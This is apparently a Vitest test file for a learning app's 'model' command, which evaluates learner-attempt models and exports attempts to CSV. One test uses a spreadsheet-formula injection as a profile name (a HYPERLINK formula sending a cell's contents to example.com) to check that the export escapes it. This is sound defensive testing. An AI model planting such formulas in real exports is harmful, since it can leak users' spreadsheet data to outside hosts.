import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { openDatabase } from '../../../electron/core/store/database.ts';
import { SettingsStore } from '../../../electron/core/store/settings.ts';
import { Profiles } from '../../../electron/core/learner/profiles.ts';
import { ProgressStore } from '../../../electron/core/learner/progress-store.ts';
import { CLASSROOM, syntheticAttemptsCsv } from '../../../electron/core/learner/synthetic-attempts.ts';
import { parseAttemptsCsv } from '../../../electron/core/learner/attempts-csv.ts';
import { modelCommand } from '../../../electron/cli/commands/model.ts';
import { tempDir } from './fixtures.ts';

async function run(args: string[], env: NodeJS.ProcessEnv = {}, cwd = tempDir('lantern-cwd-')) {
  let out = '';
  let err = '';
  const code = await modelCommand(env).run(args, {
    out: (t) => void (out += t),
    err: (t) => void (err += t),
    cwd,
  });
  return { code, out, err };
}

function syntheticFile(): { dir: string; rows: number } {
  const dir = tempDir('lantern-attempts-');
  const lines = [...syntheticAttemptsCsv({ ...CLASSROOM, learners: 40, cohort: 20, attemptsPerLearner: 30 })];
  fs.writeFileSync(path.join(dir, 'attempts.csv'), `${lines.join('\n')}\n`);
  return { dir, rows: lines.length - 1 };
}

describe('lantern model', () => {
  it('evaluate prints each model’s figures and calibration beside the baselines', async () => {
    const { dir, rows } = syntheticFile();
    const result = await run(['evaluate', '--attempts', 'attempts.csv'], {}, dir);
    expect(result.err).toBe('');
    expect(result.code).toBe(0);
    expect(result.out).toContain(`Replayed ${rows.toLocaleString('en')} attempts of 40 learners`);
    for (const label of ['Lantern (Elo)', 'Exercise success rate', 'PFA (online SGD)'])
      expect(result.out).toMatch(
        new RegExp(
          `^${label.replace(/[()]/g, '\\$&')} +0\\.\\d{3} +0\\.\\d{3} +\\d\\.\\d{3} +0\\.\\d{3}$`,
          'm',
        ),
      );
    expect(result.out.match(/^\d\.\d–\d\.\d /gm)).toHaveLength(10);
  });

  it('evaluate --json gives the same figures as data', async () => {
    const { dir, rows } = syntheticFile();
    const result = await run(['evaluate', '--attempts', path.join(dir, 'attempts.csv'), '--json']);
    const report = JSON.parse(result.out);
    expect(report.attempts).toBe(rows);
    expect(report.models.map((m: { id: string }) => m.id)).toEqual(['lantern', 'exercise-rate', 'pfa']);
    for (const m of report.models) {
      expect(m.metrics.count).toBe(rows);
      expect(m.metrics.calibration).toHaveLength(10);
      expect(m.metrics.calibration.reduce((s: number, b: { count: number }) => s + b.count, 0)).toBe(rows);
    }
  });

  it('evaluate names the file, line and column of a bad row and exits 1', async () => {
    const dir = tempDir('lantern-attempts-');
    fs.writeFileSync(
      path.join(dir, 'attempts.csv'),
      'learner,exercise,concepts,timestamp,outcome,hints\nana,e1,c1,2026-03-01T09:30:00Z,1,0\nana,e2,c1,2026-03-01T09:40:00Z,2,0\n',
    );
    const result = await run(['evaluate', '--attempts', 'attempts.csv'], {}, dir);
    expect(result.code).toBe(1);
    expect(result.out).toBe('');
    expect(result.err).toContain('attempts.csv, line 3, column 5 (outcome): "2" is not an outcome');
  });

  it('says what is missing from the command line', async () => {
    expect((await run(['evaluate'])).err).toContain('--attempts is required');
    expect((await run(['evaluate'])).code).toBe(2);
    expect((await run(['evaluate', '--attempts', 'nowhere.csv'])).err).toContain('There is no file');
    expect((await run(['export-attempts'])).err).toContain('--profile is required');
  });

  it('export-attempts writes a learner’s checked attempts in the same format, which evaluate reads', async () => {
    const data = tempDir('lantern-data-');
    const { db } = openDatabase(path.join(data, 'lantern.db'));
    const ada = new Profiles(db, new SettingsStore(db)).create('Ada').id;
    const progress = new ProgressStore(db);
    const at = Date.UTC(2026, 2, 1, 9);
    const base = { profileId: ada, track: 'python', exercise: 'count-vowels' } as const;
    progress.insertAttempt({ ...base, kind: 'run', status: 'fail', at });
    progress.insertAttempt({
      ...base,
      kind: 'check',
      status: 'fail',
      testsPassed: 1,
      testsTotal: 4,
      at: at + 1000,
    });
    progress.insertAttempt({
      ...base,
      kind: 'check',
      status: 'pass',
      testsPassed: 4,
      testsTotal: 4,
      hintsShown: 2,
      at: at + 2000,
    });
    progress.insertAttempt({
      ...base,
      exercise: 'no-longer-here',
      kind: 'check',
      status: 'pass',
      at: at + 3000,
    });
    db.close();
    const out = tempDir('lantern-out-');
    const env = { LANTERN_DATA_DIR: data };
    const exported = await run(['export-attempts', '--profile', 'ada', '--out', 'ada.csv'], env, out);
    expect(exported.code).toBe(0);
    expect(exported.err).toContain('ada.csv: 2 attempts');
    expect(exported.err).toContain('1 attempts left out');
    const lines = fs.readFileSync(path.join(out, 'ada.csv'), 'utf8').trimEnd().split('\n');
    expect(lines[0]).toBe('learner,exercise,concepts,timestamp,outcome,hints,revealed');
    expect(lines[1]).toMatch(
      /^Ada,python\/count-vowels,python\/[\w-]+(;python\/[\w-]+)*,2026-03-01T09:00:01\.000Z,0\.25,0,0$/,
    );
    expect(lines[2]).toMatch(/^Ada,python\/count-vowels,[^,]+,2026-03-01T09:00:02\.000Z,1,2,0$/);
    const evaluated = await run(
      ['evaluate', '--attempts', 'ada.csv', '--track', 'python', '--json'],
      env,
      out,
    );
    expect(evaluated.err).toBe('');
    expect(JSON.parse(evaluated.out).attempts).toBe(2);
    // --track starts the exercise at its authored difficulty instead of the middle of the scale.
    const unseeded = await run(['evaluate', '--attempts', 'ada.csv', '--json'], env, out);
    const logLoss = (r: { out: string }) => JSON.parse(r.out).models[0].metrics.logLoss;
    expect(logLoss(evaluated)).not.toBe(logLoss(unseeded));
    const unknown = await run(['evaluate', '--attempts', 'ada.csv', '--track', 'klingon'], env, out);
    expect(unknown.code).toBe(1);
    expect(unknown.err).toMatch(/There is no track "klingon"\. Tracks: .*python/);
  });

  it('export-attempts writes a name a spreadsheet would run as text; evaluate reads it back unchanged', async () => {
    const data = tempDir('lantern-data-');
    const { db } = openDatabase(path.join(data, 'lantern.db'));
    const profiles = new Profiles(db, new SettingsStore(db));
    const formula = '=HYPERLINK("http://example.com/?q="&A1,"Ada")';
    const progress = new ProgressStore(db);
    const at = Date.UTC(2026, 2, 1, 9);
    for (const name of ['Ada', formula]) {
      const base = {
        profileId: profiles.create(name).id,
        track: 'python',
        exercise: 'count-vowels',
      } as const;
      progress.insertAttempt({ ...base, kind: 'check', status: 'fail', testsPassed: 1, testsTotal: 4, at });
      progress.insertAttempt({
        ...base,
        kind: 'check',
        status: 'pass',
        testsPassed: 4,
        testsTotal: 4,
        at: at + 1,
      });
    }
    db.close();
    const out = tempDir('lantern-out-');
    const env = { LANTERN_DATA_DIR: data };
    expect((await run(['export-attempts', '--profile', 'Ada', '--out', 'ada.csv'], env, out)).code).toBe(0);
    expect((await run(['export-attempts', '--profile', formula, '--out', 'f.csv'], env, out)).code).toBe(0);
    const text = fs.readFileSync(path.join(out, 'f.csv'), 'utf8');
    const rows = text.trimEnd().split('\n').slice(1);
    expect(rows).toHaveLength(2);
    // The cell a spreadsheet reads starts with ', so it shows the name instead of running it.
    for (const row of rows)
      expect(row.startsWith(`"'=HYPERLINK(""http://example.com/?q=""&A1,""Ada"")"`)).toBe(true);
    expect([...parseAttemptsCsv(text)].map((a) => a.learner)).toEqual([formula, formula]);
    // The replay is the same as for the same attempts under a plain name.
    const evaluate = (file: string) =>
      run(['evaluate', '--attempts', file, '--track', 'python', '--json'], env, out);
    const [plain, guarded] = [await evaluate('ada.csv'), await evaluate('f.csv')];
    expect(guarded.err).toBe('');
    expect(JSON.parse(guarded.out)).toEqual(JSON.parse(plain.out));
    expect(JSON.parse(guarded.out).attempts).toBe(2);
  });
});
